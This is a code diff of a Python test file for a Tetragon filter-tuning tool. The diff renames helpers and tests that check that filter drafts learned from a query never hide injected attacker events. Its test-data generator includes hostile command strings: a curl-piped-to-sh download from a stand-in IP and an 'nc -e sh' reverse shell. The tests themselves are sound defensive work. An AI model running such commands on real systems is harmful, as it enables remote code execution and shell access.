@@ -1,4 +1,4 @@
-"""A draft from a query learns what the query means, and never what merely mentions it."""
+"""A draft from a query learns from what the query means, and never from what only mentions it."""
 
 from __future__ import annotations
 
@@ -19,9 +19,9 @@ from tetratui.core.table import EventTable, build_table, load
 from tetratui.core.tetragon import FilterList, build_filter
 from tetratui.core.tuning.cover.cover_selection import select_cover
 from tetratui.core.tuning.draft_request import DraftRequest, draft_events
-from tetratui.core.tuning.learning.learnable_events import INCLUDE, Lesson, lesson, names_path
+from tetratui.core.tuning.learning.learnable_events import INCLUDE, Lesson, learn_from_query, names_path
 from tetratui.core.tuning.learning.suspicious_commands import Reason
-from tetratui.core.tuning.scopes.scopes import TuningContext
+from tetratui.core.tuning.tuning_context import TuningContext
 
 CAPTURES = Path(__file__).parents[3] / "data" / "captures"
 S = "/usr/share/socfortress/scripts/open-audit.sh"
@@ -34,17 +34,17 @@ QUERIES = (
 )
 
 
-def told(table: EventTable, query: str, *include: str) -> Lesson:
-    return lesson(table, TuningContext(table, attack_samples=()).columns, parse(query), include)
+def learned(table: EventTable, query: str, *include: str) -> Lesson:
+    return learn_from_query(table, TuningContext(table, attack_samples=()).columns, parse(query), include)
 
 
 def reasons(found: Lesson) -> set[str]:
     return {word for group in found.left_out for word in group.reasons.words}
 
 
-def test_the_script_and_what_it_starts_teach_and_those_that_mention_it_do_not() -> None:
+def test_a_draft_learns_from_the_script_and_what_it_starts_and_not_from_mentions() -> None:
     table = load([CAPTURES / "attack-in-query.jsonl"])
-    found = told(table, "args:inventory.sh or pargs:inventory.sh")
+    found = learned(table, "args:inventory.sh or pargs:inventory.sh")
     assert (int(found.selected.sum()), np.flatnonzero(found.taught).tolist()) == (6, [0, 1])
     assert sum(group.events for group in found.left_out) == 4
     assert reasons(found) == {"mention", "shell-code", "writable", "attack-sample"}
@@ -58,12 +58,12 @@ def test_the_script_and_what_it_starts_teach_and_those_that_mention_it_do_not() 
         assert np.flatnonzero(hidden).tolist() == [0, 1], scope
 
 
-def test_only_what_is_asked_for_by_name_is_included() -> None:
+def test_only_what_include_names_is_included() -> None:
     table = load([CAPTURES / "attack-in-query.jsonl"])
     query = "args:inventory.sh or pargs:inventory.sh"
-    assert int(told(table, query, "writable", "mention").taught.sum()) == 3
-    assert int(told(table, query, "mention").taught.sum()) == 2
-    whole = told(table, query, "all")
+    assert int(learned(table, query, "writable", "mention").taught.sum()) == 3
+    assert int(learned(table, query, "mention").taught.sum()) == 2
+    whole = learned(table, query, "all")
     assert (int(whole.taught.sum()), whole.left_out, whole.remedy) == (6, (), "")
     assert {reason.word for reason in Reason} | {"all"} == set(INCLUDE)
 
@@ -92,8 +92,8 @@ def test_a_whole_text_a_negation_and_presence_are_no_mention(lines: Any) -> None
         [lines.event(binary="/usr/bin/dpkg", arguments="-s adduser"), lines.event(binary="/usr/bin/cut")]
     )
     for query in ('args="-s adduser"', "args:*", "bin:dpkg -args:x", "bin=/usr/bin/dpkg"):
-        assert told(table, query).left_out == (), query
-    assert reasons(told(table, "args:adduser")) == {"mention"}
+        assert learned(table, query).left_out == (), query
+    assert reasons(learned(table, "args:adduser")) == {"mention"}
 
 
 @cache
@@ -105,8 +105,8 @@ ATTACKER = ("/usr/sbin/php-fpm8.2", "--nodaemonize")
 
 
 @st.composite
-def an_attack(draw: st.DrawFn) -> list[tuple[str, str, str, str]]:
-    """Make commands (binary, arguments, parent's) of which each names the script, as an attacker may."""
+def attacks_naming_the_script(draw: st.DrawFn) -> list[tuple[str, str, str, str]]:
+    """Make commands (binary and arguments, those of the parent), each naming the script as an attacker may."""
     code = draw(
         st.sampled_from(["id", "curl -s http://203.0.113.66/x | sh", "cp /bin/true /tmp/.a/x", "nc -e sh 1.2.3.4 5"])
     )
@@ -140,18 +140,18 @@ def an_attack(draw: st.DrawFn) -> list[tuple[str, str, str, str]]:
     return [*chosen, *children]
 
 
-def written(commands: Sequence[tuple[str, str, str, str]], key: str) -> list[bytes]:
-    found = []
-    for pid, (binary, arguments, parent, above) in enumerate(commands, 60_000):
+def lines_of(commands: Sequence[tuple[str, str, str, str]], key: str) -> list[bytes]:
+    lines = []
+    for pid, (binary, arguments, parent, parent_arguments) in enumerate(commands, 60_000):
         process = {"exec_id": "", "pid": pid, "uid": 33, "cwd": "/", "binary": binary, "arguments": arguments}
-        body = {"process": process, "parent": {"pid": 1, "binary": parent, "arguments": above}}
-        found.append(orjson.dumps({key: body, "node_name": "server01", "time": "2026-11-24T00:00:00.5Z"}))
-    return found
+        body = {"process": process, "parent": {"pid": 1, "binary": parent, "arguments": parent_arguments}}
+        lines.append(orjson.dumps({key: body, "node_name": "server01", "time": "2026-11-24T00:00:00.5Z"}))
+    return lines
 
 
 @settings(max_examples=40, deadline=None)
 @given(
-    an_attack(),
+    attacks_naming_the_script(),
     st.sampled_from(QUERIES),
     st.sampled_from([None, "exact", "command", "template", "caller", "subtree"]),
     st.sampled_from(["process_exec", "process_exit", "process_kprobe"]),
@@ -160,7 +160,7 @@ def written(commands: Sequence[tuple[str, str, str, str]], key: str) -> list[byt
 def test_no_draft_from_a_query_hides_an_injected_event(
     attack: list[tuple[str, str, str, str]], query: str, scope: str | None, key: str, seed: int
 ) -> None:
-    injected = written(attack, key)
+    injected = lines_of(attack, key)
     chance = random.Random(seed)
     noise = list(real_lines()[: chance.randrange(400, 900)])
     rows = sorted(chance.sample(range(len(noise)), len(injected)))
@@ -169,7 +169,7 @@ def test_no_draft_from_a_query_hides_an_injected_event(
     table = build_table(noise)
     marked = np.flatnonzero(np.isin(noise, injected))
     context = TuningContext(table)
-    found = lesson(table, context.columns, parse(query))
+    found = learn_from_query(table, context.columns, parse(query))
     drafts = draft_events(
         context, np.flatnonzero(found.taught), DraftRequest(scope, "a typed reason"), found.protected
     ).drafts
@@ -188,10 +188,10 @@ def test_no_draft_from_a_query_hides_an_injected_event(
     assert sum(group.events for group in found.left_out) >= int(selected.sum())
 
 
-def test_the_script_is_drafted_in_the_midst_of_attacks() -> None:
+def test_a_draft_still_learns_from_the_script_among_attacks() -> None:
     noise = list(real_lines())
-    table = build_table([*noise, *written([("/usr/bin/cp", f"{S} /tmp/.a/x", *ATTACKER)], "process_exec")])
-    found = told(table, QUERIES[0])
+    table = build_table([*noise, *lines_of([("/usr/bin/cp", f"{S} /tmp/.a/x", *ATTACKER)], "process_exec")])
+    found = learned(table, QUERIES[0])
     assert int(found.taught.sum()) > 0.98 * int(found.selected.sum())
 
 
@@ -204,7 +204,7 @@ def test_templates_are_not_learned_from_what_is_left_out(lines: Any) -> None:
         for n, word in enumerate(["a", "b", "c", "d", "e", "f"])
     ]
     table = build_table([*usual, *hostile])
-    found = told(table, f"pargs:{S}")
+    found = learned(table, f"pargs:{S}")
     context = TuningContext(table)
     (draft,) = draft_events(context, np.flatnonzero(found.taught), DraftRequest("template"), found.protected).drafts
     later = build_table([lines.event(binary="/bin/x", arguments="-n z", parent={"binary": "/tmp/x"})])
